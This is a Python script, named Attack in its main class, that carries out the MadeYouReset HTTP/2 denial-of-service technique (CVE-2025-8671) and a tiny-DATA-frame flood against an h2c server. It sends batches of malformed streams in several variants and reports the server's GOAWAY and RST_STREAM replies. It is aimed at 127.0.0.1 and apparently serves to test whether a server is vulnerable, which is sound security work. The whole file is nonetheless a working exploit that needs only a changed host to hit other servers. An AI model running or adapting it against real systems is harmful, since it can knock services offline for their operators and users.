"""MadeYouReset (CVE-2025-8671) and tiny DATA frames against any h2c server:
``madeyoureset.py PORT VARIANT N [PATH]`` sends N streams (tiny_data: N
one-byte DATA frames on one stream) on one connection and prints what came
back: when the GOAWAY came and its code, RST_STREAMs, responses.

Variants: ``too_long`` (content-length 1, 2 bytes of DATA), ``too_short``
(content-length 10, 1 byte and END_STREAM), ``trailers`` (a pseudo-header in
the trailers), ``split`` (the request's HEADERS in one batch, the DATA that
breaks it in the next), ``tiny_data``.  Batches of 50 streams, each followed
by a PING whose ACK is awaited (the server has read the batch).
"""

from __future__ import annotations

import socket
import sys
import time
from typing import List, Optional, Tuple

import hpack
from hyperframe.frame import (
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
BATCH = 50


class Attack:
    def __init__(self, port: int, variant: str, path: str) -> None:
        self.variant = variant
        self.path = path
        self.enc = hpack.Encoder()
        self.sock = socket.create_connection(("127.0.0.1", port))
        self.sock.sendall(PREFACE + SettingsFrame(0).serialize())
        self.buf = bytearray()
        self.frames: List[Frame] = []
        self.closed = False

    def headers(self, sid: int, fields: List[Tuple[str, str]], end: bool) -> bytes:
        frame = HeadersFrame(sid, self.enc.encode(fields))
        frame.flags.add("END_HEADERS")
        if end:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    def request(self, sid: int, length: int) -> bytes:
        fields = [
            (":method", "POST"),
            (":scheme", "http"),
            (":path", self.path),
            (":authority", "localhost"),
            ("content-length", str(length)),
        ]
        return self.headers(sid, fields, False)

    def unit(self, sid: int) -> Tuple[bytes, bytes]:
        """(sent with the stream's HEADERS, sent with the next batch)"""
        v = self.variant
        if v == "too_long":
            return self.request(sid, 1) + data(sid, b"xx", True), b""
        if v == "too_short":
            return self.request(sid, 10) + data(sid, b"x", True), b""
        if v == "split":
            return self.request(sid, 2) + data(sid, b"x"), data(sid, b"xx", True)
        if v == "trailers":
            bad = self.headers(sid, [(":path", "/")], True)
            return self.request(sid, 1) + data(sid, b"x") + bad, b""
        raise SystemExit(f"unknown variant {v}")

    def pump(self, timeout: float) -> None:
        self.sock.settimeout(timeout)
        try:
            while True:
                chunk = self.sock.recv(1 << 20)
                if not chunk:
                    self.closed = True
                    return
                self.buf += chunk
                while len(self.buf) >= 9:
                    length = int.from_bytes(self.buf[:3], "big")
                    if len(self.buf) < 9 + length:
                        break
                    frame, _ = Frame.parse_frame_header(memoryview(bytes(self.buf[:9])))
                    frame.parse_body(memoryview(bytes(self.buf[9 : 9 + length])))
                    del self.buf[: 9 + length]
                    self.frames.append(frame)
                    if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                        self.sock.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
                self.sock.settimeout(0.0005)
        except (BlockingIOError, socket.timeout):
            return
        except ConnectionError:
            self.closed = True

    def goaway(self) -> Optional[GoAwayFrame]:
        return next((f for f in self.frames if isinstance(f, GoAwayFrame)), None)

    def acked(self, opaque: bytes) -> bool:
        return any(
            isinstance(f, PingFrame) and "ACK" in f.flags and f.opaque_data == opaque
            for f in self.frames
        )

    def run(self, n: int) -> int:
        if self.variant == "tiny_data":
            self.sock.sendall(self.request(1, 10**7))
            sent = 0
            while sent < n and not self.goaway() and not self.closed:
                m = min(10_000, n - sent)
                try:
                    self.sock.sendall(data(1, b"x") * m)
                except ConnectionError:
                    break
                sent += m
                self.pump(0.0)
            return sent
        sent, later = 0, b""
        while sent < n and not self.goaway() and not self.closed:
            out, nxt = bytearray(later), bytearray()
            for i in range(BATCH):
                now, after = self.unit(1 + 2 * (sent + i))
                out += now
                nxt += after
            later = bytes(nxt)
            opaque = sent.to_bytes(8, "big")
            try:
                self.sock.sendall(out + PingFrame(0, opaque_data=opaque).serialize())
            except ConnectionError:
                self.closed = True
                break
            sent += BATCH
            deadline = time.monotonic() + 5
            while time.monotonic() < deadline and not self.closed and not self.goaway():
                self.pump(0.05)
                if self.acked(opaque):
                    break
        return sent


def data(sid: int, payload: bytes, end: bool = False) -> bytes:
    return DataFrame(sid, payload, flags=["END_STREAM"] if end else []).serialize()


def main() -> None:
    port, variant, n = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    attack = Attack(port, variant, sys.argv[4] if len(sys.argv) > 4 else "/")
    start = time.monotonic()
    sent = attack.run(n)
    deadline = time.monotonic() + 1.0
    while not attack.closed and time.monotonic() < deadline:
        attack.pump(0.1)
    g = attack.goaway()
    rst = sum(isinstance(f, RstStreamFrame) for f in attack.frames)
    responses = sum(isinstance(f, HeadersFrame) for f in attack.frames)
    unit = "frames" if variant == "tiny_data" else "streams"
    code = f"{g.error_code} {g.additional_data!r}" if g else "none"
    print(
        f"{variant}: sent {sent} {unit} in {time.monotonic() - start:.2f}s; GOAWAY {code}; "
        f"RST_STREAM {rst}; responses {responses}; closed {attack.closed}"
    )


if __name__ == "__main__":
    main()
